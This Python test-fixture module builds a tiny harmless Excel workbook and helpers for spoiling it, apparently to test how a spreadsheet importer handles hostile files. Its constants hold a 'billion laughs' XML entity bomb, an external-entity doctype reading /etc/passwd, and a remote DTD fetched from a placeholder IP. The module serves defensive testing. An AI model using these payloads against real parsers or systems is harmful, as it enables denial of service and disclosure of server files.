"""What hostile files are made of: a small harmless workbook, and ways to spoil it."""

import struct
import zlib
from collections.abc import Callable

from tests.lib.workbooks.samples import ROSTERS, make_xlsx, make_zip, parts_of, with_parts

Build = Callable[[], bytes]

XLS = (ROSTERS / "附件2-学区认定-2018.xls").read_bytes()
SHEET_PART, STRINGS_PART, BOOK_PART = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
RELS_PART, STYLES_PART, TYPES_PART = "xl/_rels/workbook.xml.rels", "xl/styles.xml", "[Content_Types].xml"
LONG_NUMBER = "9" * 400
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
LAUGHS = "".join(
    f'<!ENTITY {name} "{f"&{former};" * 10}">' for former, name in zip("abcdefgh", "bcdefghi", strict=True)
)
BOMB = f'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{LAUGHS}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://203.0.113.9/x.dtd" [<!ENTITY % p SYSTEM "http://203.0.113.9/p">%p;]>'
# Ballast that does not compress, so that a small part may unpack to a large one within the ratio.
NOISE = b"".join(zlib.compress(struct.pack(">Q", number) * 3) for number in range(9000))


def sheet(rows: str, *, head: str = HEAD, after: str = "", before: str = "") -> bytes:
    """A sheet part with these rows."""
    return (
        f'{head}<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'.encode()
    )


def _small() -> bytes:
    """A harmless workbook of two rows that keeps its words in shared strings, as Excel and WPS do."""
    parts = parts_of(make_xlsx([["姓名"]]))
    strings = "".join(f"<si><t>{word}</t></si>" for word in ("姓名", "谢梅俊"))
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>{n - 1}</v></c></row>' for n in (1, 2))
    relation = (
        f'<Relationship Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml" Id="rId9"/></Relationships>'
    )
    parts[SHEET_PART] = sheet(rows)
    parts[STRINGS_PART] = f'{HEAD}<sst xmlns="{MAIN}">{strings}</sst>'.encode()
    parts[RELS_PART] = parts[RELS_PART].replace(b"</Relationships>", relation.encode())
    return make_zip(parts)


def with_rows(rows: str, *, ballast: bytes = b"", after: str = "", before: str = "") -> bytes:
    """The small workbook with other rows; ballast keeps the ratio in bounds."""
    more = {"xl/media/ballast.bin": ballast} if ballast else {}
    return with_parts(XLSX, **{SHEET_PART: sheet(rows, after=after, before=before)}, **more)


def with_doctype(part: str, doctype: str, word: str = "") -> bytes:
    """The small workbook with a document type, and a reference to it, in one of its parts."""
    text = parts_of(XLSX)[part].decode()
    if not text.startswith("<?xml"):
        text = HEAD + text
    end = text.index("?>") + 2
    body = text[end:].replace("谢梅俊", word or "谢梅俊")
    return with_parts(XLSX, **{part: (text[:end] + doctype + body).encode()})


def changed(part: str, old: str, new: str) -> bytes:
    """The small workbook with some words of a part replaced."""
    text = parts_of(XLSX)[part].decode()
    assert old in text, text
    return with_parts(XLSX, **{part: text.replace(old, new).encode()})


def without(part: str) -> bytes:
    """The small workbook without one of its parts."""
    return make_zip({name: content for name, content in parts_of(XLSX).items() if name != part})


XLSX = _small()
